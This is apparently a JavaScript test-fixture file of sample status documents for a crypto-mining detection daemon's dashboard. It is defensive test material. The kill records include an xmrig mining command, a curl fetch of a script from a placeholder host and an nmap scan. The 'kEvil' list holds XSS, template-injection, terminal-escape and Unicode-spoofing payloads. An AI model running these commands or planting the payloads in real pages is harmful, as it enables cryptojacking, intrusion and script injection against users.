// Status documents, as the daemon gives them (docs/status.md).

export const kNow = 1764000123.5; // 2025-11-24 16:02:03.5 UTC
const kUntil = 1764000120;

const counts = (given = {}) => ({
  checked: 0,
  killed: 0,
  reported: 0,
  spared: 0,
  protected: 0,
  missed: 0,
  failed: 0,
  suppressed: 0,
  ...given,
});

const passed = (ms) => ({result: 'passed', at: kNow - 23, passed_at: kNow - 23, lived_ms: ms, why: ''});

function series(steps, spikes = {}) {
  const made = {killed: Array(steps).fill(0), reported: Array(steps).fill(0), lost: Array(steps).fill(0)};
  for (const [name, at] of Object.entries(spikes)) for (const [step, value] of at) made[name][step] = value;
  return made;
}

export function quiet() {
  return {
    version: '0.1.0',
    node: 'node-1',
    kernel: '6.1.0-18-amd64',
    now: kNow,
    started_at: kNow - 93784,
    uptime_s: 93784,
    ready: true,
    not_ready: [],
    config: {
      generation: 3,
      loaded_at: kNow - 7300,
      last_reload_ok: true,
      last_reload_errors: [],
      files: ['/etc/cryptnono/base.yaml', '/etc/cryptnono/hub.yaml'],
      dry_run: false,
      scope_cgroups: 0,
    },
    detectors: [
      {
        name: 'execwhacker',
        enabled: true,
        up: true,
        hook: 'killed in the kernel at exec',
        why: '',
        rules: {banned: 6120, 'allowed-pattern': 2, 'allowed-executable': 1},
        canary: passed(0.4),
        counts: counts({checked: 48211}),
        lost: {'events-ring-full': 0, 'unreadable-arguments': 0},
        limit: {targets: 0, max_targets: 20, window_s: 60, reached: false},
      },
      {
        name: 'monero',
        enabled: true,
        up: true,
        hook: 'rounding modes read at every switch of threads, and by active sampling',
        why: '',
        rules: {},
        canary: passed(312),
        counts: counts({checked: 905}),
        lost: {recursion: 0, 'threads-full': 0},
        limit: {targets: 0, max_targets: 20, window_s: 60, reached: false},
      },
      {
        name: 'tcpflowkiller',
        enabled: true,
        up: true,
        hook: 'refused and killed in the kernel at connect',
        why: '',
        rules: {banned: 14032, 'allowed-address': 3},
        canary: passed(0.09),
        counts: counts({checked: 1204377}),
        lost: {'scan-table-full': 0},
        limit: {targets: 0, max_targets: 20, window_s: 60, reached: false},
      },
    ],
    missing: [],
    kills: [],
    history: {step_s: 10, until: kUntil, series: {execwhacker: series(360), monero: series(360), tcpflowkiller: series(360)}},
    details: false,
  };
}

const kUsers = ['ada', 'grace', 'alan', 'edsger', 'barbara', 'donald', 'radia'];

export function kill(i) {
  const [detector, rule, cmdline, latency] = [
    [
      'execwhacker',
      'default:3:5',
      './xmrig -o stratum+tcp://pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1',
      14.2,
    ],
    ['monero', 'randomx', 'python3 train.py --epochs 100', 284000],
    ['tcpflowkiller', 'banned-ip', 'curl -sS https://192.0.2.1/a.sh', 9.7],
    ['tcpflowkiller', 'scan', 'nmap -sT 10.11.0.0/16', 21],
  ][i % 4];
  const user = kUsers[i % kUsers.length];
  return {
    at: kNow - 3.25 - i * 41,
    detector,
    action: i % 9 === 5 ? 'missed-kill' : i % 7 === 3 ? 'reported' : 'killed',
    rule,
    latency_us: latency,
    details: {
      cmdline,
      pid: 51234 + i,
      uid: 1000,
      executable: `/home/${user}/.cache/run`,
      namespace: 'hub-prod',
      pod: `jupyter-${user}`,
      container: 'notebook',
      image: 'quay.io/example/datascience-notebook:2025-11-03',
    },
  };
}

export function busy() {
  const doc = quiet();
  const [exec, monero, flow] = doc.detectors;
  Object.assign(exec, {
    counts: counts({
      checked: 1912044,
      killed: 1841,
      reported: 12,
      spared: 96,
      protected: 4,
      missed: 7,
      failed: 1,
      suppressed: 31,
    }),
    lost: {'events-ring-full': 12, 'unreadable-arguments': 3},
    limit: {targets: 20, max_targets: 20, window_s: 60, reached: true},
  });
  Object.assign(monero, {
    counts: counts({checked: 3120, killed: 9, spared: 2}),
    limit: {targets: 2, max_targets: 20, window_s: 60, reached: false},
  });
  Object.assign(flow, {
    counts: counts({checked: 88120431, killed: 220, missed: 2}),
    why: 'refused only: this kernel cannot kill from the hook',
    hook: 'refused in the kernel at connect, killed by user space',
  });
  doc.history.series = {
    execwhacker: series(360, {
      killed: [
        [3, 1],
        [40, 7],
        [41, 3],
        ...Array.from({length: 60}, (_, i) => [200 + i, Math.round(8 * Math.sin(i / 19) ** 2)]),
        [352, 240],
        [353, 410],
        [354, 96],
        [359, 2],
      ],
      reported: [
        [353, 31],
        [354, 12],
      ],
      lost: [
        [353, 12],
        [354, 3],
      ],
    }),
    monero: series(360, {
      killed: [
        [100, 1],
        [190, 2],
        [290, 1],
        [340, 1],
      ],
    }),
    tcpflowkiller: series(360, {killed: Array.from({length: 44}, (_, i) => [i * 8 + 5, i % 5]), reported: [[150, 2]]}),
  };
  doc.kills = Array.from({length: 50}, (_, i) => kill(i));
  Object.assign(doc.kills[8], {
    latency_us: 0.3,
    details: {cmdline: doc.kills[8].details.cmdline, pid: 51242, uid: 0, executable: '/usr/bin/xmrig'},
  });
  doc.rollouts = [
    {group: 'pools', would: 'kill', reports: true, until: 1798070400, clean_days: 7, clean_s: 90000, would_have_killed: 3, last_would_at: kNow - 90000},
    {group: 'miners', would: 'kill-tree', reports: false, until: 0, clean_days: 3, clean_s: 259200, would_have_killed: 0, last_would_at: 0},
  ];
  doc.missing = [{what: 'no real-time priority', effect: 'RandomX is found later on a busy node', remedy: 'add CAP_SYS_NICE'}];
  doc.details = true;
  return doc;
}

export function broken() {
  const doc = quiet();
  Object.assign(doc, {ready: false, not_ready: ['monero: the canary did not die in time'], uptime_s: 41, started_at: kNow - 41});
  Object.assign(doc.detectors[1], {
    up: false,
    why: 'the canary did not die in time',
    canary: {result: 'survived', at: kNow - 9, passed_at: 0, lived_ms: 5000, why: 'still alive after 5 s'},
  });
  doc.detectors[0].limit.targets = null; // not known
  Object.assign(doc.detectors[2], {
    enabled: false,
    up: false,
    hook: '',
    canary: {result: 'off', at: 0, passed_at: 0, lived_ms: 0, why: ''},
  });
  Object.assign(doc.config, {
    last_reload_ok: false,
    dry_run: true,
    scope_cgroups: 1,
    last_reload_errors: [
      '/etc/cryptnono/hub.yaml:12:3: bannedCommandString: no such key',
      '/etc/cryptnono/hub.yaml:40:9: "(?<=x)y": lookbehind is not supported',
    ],
  });
  doc.missing = [
    {
      what: 'the tracepoint x86_fpu_regs_deactivated',
      effect: 'RandomX is not found on this node',
      remedy: 'a kernel of 5.2 or later with CONFIG_TRACEPOINTS on x86-64',
    },
    {
      what: 'cgroup v2',
      why: 'no such file or directory',
      effect: 'connects are killed after their SYN has left',
      remedy: 'boot with systemd.unified_cgroup_hierarchy=1',
    },
  ];
  doc.history.series = {execwhacker: series(4), monero: series(4), tcpflowkiller: series(4)};
  return doc;
}

// What an attacker may write: each of these becomes a field.
export const kEvil = [
  '<img src=x onerror="window.owned=1">',
  '</script><script>window.owned=2</script>',
  '"><svg onload=window.owned=3>',
  '<style>body{display:none}</style>',
  '{{7*7}}${7*7}',
  'javascript:alert(1)',
  '\x1b[2J\x1b]0;owned\x07\x1b[31mred',
  'safe \u202egnp.exe\u202c end',
  '\u2066\u2067isolates',
  'zero\u200bwidth\u200d\ufeff\u00ad',
  'Z' + '\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(40) + 'algo',
  'שלום עולם 123 (abc)',
  'tag\u{e0041}\u{e0042}',
  'half \ud800 pair',
  'line\nbreak\ttab\r\0nul\u2028ls',
  '\u3164filler\u2800',
];

export function hostile() {
  const doc = busy();
  const long = 'A'.repeat(100000);
  doc.kills = [...kEvil, long, `${'<b>'.repeat(30000)}`, `${long}\u202e`].map((text, i) => ({
    ...kill(i),
    action: 'killed',
    rule: 'default:3:5',
    details: {
      cmdline: text,
      executable: text,
      namespace: text.slice(0, 300),
      pod: text.slice(0, 300),
      container: text,
      image: text,
      pid: i,
      uid: 0,
    },
  }));
  doc.kills[1].rule = kEvil[0];
  doc.kills[1].action = kEvil[1];
  doc.node = kEvil[0];
  doc.kernel = `6.1 ${kEvil[7]} ${'k'.repeat(400)}`;
  doc.config.files = [`/etc/${'x'.repeat(3000)}`, `/etc/${kEvil[1]}`];
  doc.config.last_reload_ok = false;
  doc.config.last_reload_errors = [...kEvil];
  doc.rollouts = kEvil.map((text) => ({group: text, would: text, reports: true, until: text, clean_days: text, clean_s: text, would_have_killed: text}));
  doc.missing = kEvil.map((text) => ({what: text, effect: text, remedy: text}));
  doc.not_ready = [kEvil[1]];
  doc.detectors[0].hook = kEvil[2];
  doc.detectors[0].why = kEvil[0] + 'w'.repeat(500);
  doc.detectors[0].canary = {result: 'failed', at: kNow - 1, passed_at: 0, lived_ms: 0, why: kEvil[6]};
  doc.detectors[0].lost = {[kEvil[0]]: 3};
  doc.detectors[0].rules = {[kEvil[1]]: 3};
  doc.detectors[0].counts[kEvil[3]] = 1e21;
  return doc;
}

export function endless() {
  const doc = quiet();
  const steps = 10000;
  doc.history.series.execwhacker = {
    killed: Array.from({length: steps}, (_, i) => i % 3),
    reported: Array(steps).fill(1),
    lost: Array(steps).fill(0),
  };
  return doc;
}
